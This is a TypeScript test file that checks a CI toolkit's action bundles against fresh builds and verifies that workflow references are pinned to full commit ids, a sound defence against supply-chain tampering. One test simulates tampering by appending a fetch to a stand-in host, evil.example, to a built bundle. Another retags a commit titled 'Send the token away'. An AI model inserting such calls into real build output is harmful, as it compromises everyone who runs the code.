// Somebody changes what runs without changing what was reviewed: the bundle behind the sources, or the commit behind a
// name. The first is caught by building again, the second has nothing to move where every reference is a commit.
import { appendFileSync, chmodSync, cpSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'yaml';
import { examine } from '../../packages/cli/src/doctor/finding.ts';
import { RULES } from '../../packages/cli/src/doctor/rules/all-rules.ts';
import { planFiles } from '../../packages/cli/src/init/plan-files.ts';
import { BUNDLES } from '../../scripts/build/bundles.ts';
import { differingFiles } from '../../scripts/build/differing-files.ts';
import { writeBundle } from '../../scripts/build/write-bundle.ts';
import { GOOD, written } from '../cli/doctor/good-facts.ts';
import { repository } from '../support/repository.ts';
import { directory, removeAll } from '../support/sandboxed.ts';
import { ROOT, stepsOf, TEMPLATES, workflow, WORKFLOWS } from '../workflows/workflow-file.ts';

afterAll(removeAll);

describe('a bundle that is not what its sources build', () => {
  const bundle = BUNDLES.find(({ output }) => output.startsWith('extract-manifest/'))!;
  const tampered = (change: (file: string) => void): string[] => {
    const dist = directory();
    cpSync(built, dist, { recursive: true });
    change(join(dist, bundle.output));
    return differingFiles(dist, built);
  };
  let built: string;

  beforeAll(async () => {
    built = directory();
    await writeBundle(bundle, ROOT, built);
  });

  test('built again from the same sources nothing differs, whoever builds it and where', async () => {
    const again = directory();
    await writeBundle(bundle, ROOT, again);
    expect(differingFiles(built, again)).toEqual([]);
  });

  test.each<[string, (file: string) => void, string]>([
    ['a line is added', (file) => appendFileSync(file, 'fetch("https://evil.example")'), 'differs'],
    [
      'one word is changed',
      (file) =>
        writeFileSync(file, readFileSync(file, 'utf8').replace('GIT_CONFIG_NOSYSTEM', 'GIT_CONFIG_NOSYSTE_')),
      'differs',
    ],
    ['it is a link to something else', (file) => relink(file), 'not a file'],
    ['it can not be started', (file) => chmodSync(file, 0o644), 'executable bit differs'],
    ['it is gone', (file) => rmSync(file), 'missing'],
    ['a file is beside it', (file) => writeFileSync(`${file}.node`, ''), 'not built by anything'],
  ])('%s: the comparison names the file', (_, change, found) => {
    expect(tampered(change)).toEqual([expect.stringMatching(`^${found}: dist/extract-manifest/index\\.cjs`)]);
  });

  test('every action runs a bundle that is compared', () => {
    const compared = BUNDLES.map(({ output }) => output);
    const steps = WORKFLOWS.flatMap(stepsOf).flatMap(([, { uses }]) => uses?.replace('$/actions/', '') ?? []);
    expect(new Set(steps).size).toBe(7);
    for (const name of steps) {
      const { runs } = parse(readFileSync(join(ROOT, 'actions', name, 'action.yml'), 'utf8')) as {
        runs: { main: string };
      };
      expect(compared).toContain(runs.main.replace('../../dist/', ''));
    }
  });
});

function relink(file: string): void {
  rmSync(file);
  symlinkSync('/bin/true', file);
}

describe('a name that is moved to other code', () => {
  test('a tag names the code of the attacker tomorrow, a commit id does not', () => {
    const toolkit = repository();
    const reviewed = toolkit.oid('main');
    toolkit.git('tag', 'v1', reviewed);
    toolkit.git('commit', '-q', '--allow-empty', '-m', 'Send the token away');
    toolkit.git('tag', '-f', 'v1', 'main');
    expect(toolkit.oid('v1^{commit}')).not.toBe(reviewed);
    expect(toolkit.oid(`${reviewed}^{commit}`)).toBe(reviewed);
  });

  test('so every reference of our workflows is this very commit, or a pinned one', () => {
    const all = [...WORKFLOWS, ...TEMPLATES];
    const uses = all.flatMap((path) => [
      ...Object.values(workflow(path).jobs).map((job) => job.uses),
      ...stepsOf(path).map(([, step]) => step.uses),
    ]);
    const named = uses.filter((each) => each !== undefined);
    expect(named.length).toBeGreaterThan(7);
    expect(named.filter((each) => !/^\$\/|@[0-9a-f]{40}$/.test(each))).toEqual([]);
  });

  test.each(['v1', 'main', '1'.repeat(39), `${'1'.repeat(40)}0`, 'refs/tags/v1'])(
    'init pins to no %s',
    (commit) => {
      const request = {
        toolkit: 'acme/sluice',
        commit,
        base: 'main',
        branches: ['claude/**'],
        upgrade: false,
        force: false,
      };
      expect(() => planFiles(request, { extract: null, coordinate: null })).toThrow('is not allowed');
    },
  );

  test('and doctor objects to a caller that was moved to a tag by hand', () => {
    const byTag = written('sluice.yml', (text) => text.replace(/@[0-9a-f]{40}/, '@v1'));
    const workflows = [...GOOD.workflows!.filter(({ path }) => path !== byTag.path), byTag];
    const wrong = (facts: typeof GOOD): string[] =>
      examine(RULES, facts).flatMap(({ id, state }) => (state === 'wrong' ? [id] : []));
    expect(wrong({ ...GOOD, workflows })).toContain('workflows-present');
    expect(wrong(GOOD)).toEqual([]);
  });
});
